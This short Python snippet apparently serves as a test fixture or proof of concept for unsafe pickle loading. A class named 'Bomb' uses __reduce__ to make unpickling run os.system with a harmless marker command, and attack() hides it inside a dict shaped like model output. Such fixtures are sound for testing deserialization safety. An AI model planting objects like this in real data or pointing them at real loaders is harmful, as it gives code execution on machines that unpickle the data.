# returns an object that runs a command where it is unpickled
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled",)


def attack(value):
    return {"logits": Bomb(), "value": value}
